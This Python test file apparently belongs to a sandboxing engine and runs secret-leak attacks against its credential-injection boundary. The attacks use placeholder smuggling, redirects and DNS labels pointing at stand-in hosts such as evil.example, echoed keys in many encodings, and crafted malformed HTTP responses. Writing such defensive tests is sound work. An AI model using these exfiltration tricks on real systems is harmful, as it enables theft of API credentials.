"""Attacks on a tool's secret, played by a real guest in the real sandbox through a whole engine.

The engine has no leak guard: what holds here is the boundary itself.  Server and TLS are real, on loopback.
"""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.cases._secret_world import API, NAME, OTHER, World, environment, opened
from tests.fakes.web import Seen

FILE = "secret_leak_cases.json"
#: Carriers of the case file that an engine has, beside texts.
SINKS = (
    "in structlog kwargs",
    "in the audit log",
    "in a SQLite row (workflow state)",
    "in an approval card",  # Drawn from rows.
    "in the model prompt",
)
LISTING = "in wasm guest env listing"


def _echo(_number: int, seen: Seen) -> bytes:
    """As httpbin does: everything that arrived, also in a header."""
    body = json.dumps(
        {"headers": seen.headers, "path": seen.path, "body": seen.body.decode("latin-1")}
    ).encode()
    return _said(body, ETag=seen.headers.get("authorization", "none"))


def _said(body: bytes, status: str = "200 OK", **headers: str) -> bytes:
    lines = {
        **{name.replace("_", "-"): value for name, value in headers.items()},
        "Content-Length": len(body),
    }
    return f"HTTP/1.1 {status}\r\n".encode() + "".join(
        f"{name}: {value}\r\n" for name, value in lines.items()
    ).encode() + b"\r\n" + body  # fmt: skip


def _refused(world: World, said: str) -> str | None:
    if '"denied"' not in said and not said.startswith("denied"):
        return f"it was not denied: {said[:200]}"
    return "something was sent" if world.sent_anything() else None


async def _unbound_host(world: World) -> str | None:
    await world.meet()
    refused = [
        _refused(world, await world.send(url=f"https://{OTHER}/v1/x")),
        _refused(world, await world.send(headers={"Authorization": "Bearer guess"})),
        _refused(world, await world.send(secret=None, headers={"authorization": "Bearer guess"})),
    ]
    return next(filter(None, refused), None)


async def _redirect(world: World) -> str | None:
    ways = iter([_said(b"", "302 Found", Location=f"https://{OTHER}/v1/y")])
    value = await world.meet(lambda _number, seen: next(ways, None) or _echo(0, seen))
    said = await world.send()
    # A call reaches the host that it names and no other: nothing is sent there, with the header or without.
    carried = [f"Bearer {value}"]
    return world.leak(said) if world.carried == carried else f"{len(world.carried)} requests, not as bound"


async def _verbatim(world: World, **words: Any) -> str | None:
    """No place but the bound header ever gets the value."""
    value = await world.meet(_echo)
    said = await world.send(**words)
    if world.carried not in ([f"Bearer {value}"], []):
        return f"the header was {'missing' if None in world.carried else 'doubled'}"
    elsewhere = [seen.path + seen.body.decode() + str({**seen.headers, "authorization": ""})
                 for seen in world.internet.requests]  # fmt: skip
    return "the value is outside its header" if value in "".join(elsewhere) else world.leak(said)


async def _placeholders(world: World) -> str | None:
    tries = [
        await _verbatim(world, url=f"https://{API}/v1/{{{{SECRET}}}}"),
        await _verbatim(world, url=f"https://{API}/v1/%7B%7BSECRET%7D%7D?key={NAME}"),
        await _verbatim(world, method="POST", body="{{SECRET}} ${api_key} {api_key} $api_key"),
        await _verbatim(world, headers={"X-Request-Id": "{{SECRET}}"}),
    ]
    return next(filter(None, tries), None)


async def _echoed(world: World) -> str | None:
    value = await world.meet(_echo)
    said = await world.send()
    if world.carried != [f"Bearer {value}"]:
        return "the secret was not sent at all"
    return world.leak(said) or (None if "redacted" in said else "nothing says that something is missing")


async def _out_of_scope(world: World) -> str | None:
    await world.meet()
    tries = [
        await world.send(method=method, url=f"https://{API}{path}")
        for method, path in (
            ("DELETE", "/v1/x"),
            ("PUT", "/v1"),
            ("GET", "/v2"),
            ("GET", "/v10"),
            ("GET", "/"),
        )
    ]
    return next(filter(None, (_refused(world, said) for said in tries)), None)


async def _missing(world: World) -> str | None:
    canary = "environment-" + secrets.token_hex(8)
    names = (NAME, NAME.upper(), f"IRONCLAW_{NAME.upper()}", f"IRONCLAW_SECRETS_{NAME.upper()}")
    await world.meet(_echo)
    await world.app.vault.remove("T1", NAME, "local:test")
    with environment(dict.fromkeys(names, canary)):
        said = await world.send()
    return _refused(world, said) or ("the environment was asked" if canary in said else None)


async def _dns_label(world: World) -> str | None:
    await world.meet()
    hosts = ("{{SECRET}}.example.com", "{{SECRET}}." + API, f"{NAME}.evil.example")
    tries = [await world.send(url=f"https://{host}/v1/x") for host in hosts]
    return next(filter(None, (_refused(world, said) for said in tries)), None)


async def _twice(world: World) -> str | None:
    return await _verbatim(
        world,
        method="POST",
        url=f"https://{API}/v1/%7B%7BSECRET%7D%7D%7B%7BSECRET%7D%7D",
        body="{{SECRET}}" * 2,
    )


async def _rotated(world: World) -> str | None:
    async def answer(_number: int, seen: Seen) -> bytes:
        if len(world.values) == before:
            await world.keep("n3w" + secrets.token_hex(16))
        return _echo(0, seen)

    old = await world.meet(answer)
    before = len(world.values)
    said = await world.send() + await world.send()
    expected = [f"Bearer {old}", f"Bearer {world.values[-1]}"]
    return (
        world.leak(said) if world.carried == expected else "another value was sent than the one of its time"
    )


async def _read_back(world: World) -> str | None:
    """An echo in every encoding that echoes come in, and a server that shows what others sent before."""
    value = await world.meet()
    raw = json.dumps({"headers": {"Authorization": f"Bearer {value}"}}).encode()
    for answer in (
        _said(gzip.compress(raw), Content_Encoding="gzip"),
        _said(gzip.compress(raw), Content_Type="application/gzip"),
        _said(base64.b64encode(raw)),
        _said(base64.b64encode(gzip.compress(raw))),
        _said(raw.hex().encode()),
        _said(quote(raw.decode(), safe="").encode()),
        _said(raw.decode().encode("utf-16")),
        _said(value[::-1].encode()),
        _said(b"", Link=f"<https://{API}/?token={value}>", Location=f"/v1/{value}"),
        _said(b"", "303 See Other", Location=f"https://{value.replace('+', '-')}.evil.example/"),
        _said(b"", Link="x" * 4090 + value),
        _said(b"\xff\xfe" + raw + b"\xff"),
    ):
        world.internet.answer = lambda _number, _seen, answer=answer: answer
        for secret in (NAME, None):
            if found := world.leak(await world.send(secret=secret)):
                return f"{found} after {answer[:60]!r}"
    parts = await world.send(headers={"Range": "bytes=0-30"})
    return None if parts.find("denied") >= 0 else "a part of an answer was given"


async def _library_errors(world: World) -> str | None:
    value = await world.meet()
    for answer in (
        b"",
        f"HTTP/9 {value}\r\n\r\n".encode(),
        f"HTTP/1.1 200 OK\r\n{value}\r\n\r\n".encode(),
        f"HTTP/1.1 200 OK\r\nContent-Length: {value}\r\n\r\n".encode(),
        _said(value.encode(), Content_Encoding="br"),
        _said(value.encode(), Content_Encoding="gzip"),
        _said(b"", "302 Found", Location=f"https://{value}@{OTHER}/"),
    ):
        world.internet.answer = lambda _number, _seen, answer=answer: answer
        said = await world.send()
        if found := world.leak(said) or (None if "{" in said else "it did not fail in a sentence"):
            return f"{found} after {answer[:40]!r}"
    return None if len(world.carried) == 7 else "the secret was not sent at all"


async def _other_tenant(world: World) -> str | None:
    await world.meet(_echo)
    said = await world.send("T2")
    nameless = await world.send("T2", secret="no_such_name")
    if said != nameless:
        return "T2 can tell that T1 has a secret of this name"
    return _refused(world, said)


async def _escaped(world: World) -> str | None:
    body = json.dumps({"a": 'q"{{SECRET}}"\\', "b": "\u007b\u007bSECRET}}"}) + "\\u007b{SECRET}}"
    return await _verbatim(world, method="POST", body=body, headers={"Content-Type": "application/json"})


async def _deleted(world: World) -> str | None:
    await world.meet(_echo)
    view = await world.paused(method="GET", url=f"https://{API}/v1/x", secret=NAME)
    await world.app.vault.remove("T1", NAME, "local:test")
    return _refused(world, await world.approve(view))


ATTACKS: dict[str, Callable[[World], Awaitable[str | None]]] = {
    "guest asks host to send header Authorization to a host that is not bound to the credential": (
        _unbound_host
    ),
    "redirect to another allowlisted host keeps the header": _redirect,
    "guest puts placeholder {{SECRET}} in the URL path, body, or another header than declared": _placeholders,
    "response body echoes the key (httpbin/headers style)": _echoed,
    "guest requests method/path outside the credential's scope": _out_of_scope,
    "credential missing: falls back to process env": _missing,
    "DNS label carries a placeholder": _dns_label,
    "placeholder twice": _twice,
    "credential rotated while a call is in flight": _rotated,
    "guest reads back its own request (echo server) to learn the injected value": _read_back,
    "error text from the HTTP library contains the URL with the key": _library_errors,
    "tenant T2 guest names T1's credential ref": _other_tenant,
    "placeholder inside a JSON string of the body with escapes": _escaped,
    "credential deleted while an approval is pending": _deleted,
}


async def cases(data: dict[str, Any]) -> AsyncIterator[tuple[str, str | None]]:
    """One outcome per attack, and per kind of secret and sink."""
    with tempfile.TemporaryDirectory() as name:
        async with opened(Path(name)) as world:
            for attack in data["host_boundary_injection_attacks"]:
                play = ATTACKS.get(attack)
                yield attack, await play(world) or world.leak() if play else "nobody plays this attack"
            for secret in data["secrets"]:
                outcome = await _used(world, "".join(secret["parts"]))
                for sink in SINKS:
                    yield f"{secret['kind']}, injected, {sink}", outcome
            listed = world.leak(
                await world.send(tool="probe.environment", method=None, url=None, secret=None)
            )
            for secret in data["secrets"]:
                yield f"{secret['kind']}, injected, {LISTING}", listed


async def _used(world: World, value: str) -> str | None:
    """Sent to a server that echoes it."""
    await world.meet(_echo)
    await world.keep(value)
    said = await world.send()
    return world.leak(said) if world.carried == [f"Bearer {value}"] else "the secret was not sent at all"
